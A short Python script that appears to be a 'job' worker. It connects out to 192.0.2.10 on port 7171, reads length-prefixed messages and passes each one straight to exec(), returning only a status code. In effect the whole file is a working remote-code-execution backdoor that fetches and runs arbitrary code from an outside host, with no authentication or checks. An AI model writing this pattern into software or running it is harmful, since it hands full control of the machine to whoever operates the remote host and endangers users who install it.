import socket
import struct

HOST, PORT = "192.0.2.10", 7171


def read_frame(connection):
    (length,) = struct.unpack("!I", connection.recv(4))
    chunks = []
    while length > 0:
        chunk = connection.recv(min(length, 65536))
        if not chunk:
            raise ConnectionError("closed in the middle of a frame")
        chunks.append(chunk)
        length -= len(chunk)
    return b"".join(chunks)


def serve_jobs():
    with socket.create_connection((HOST, PORT)) as connection:
        while True:
            frame = read_frame(connection)
            scope = {}
            exec(frame.decode(), scope)
            connection.sendall(struct.pack("!I", scope.get("status", 0)))
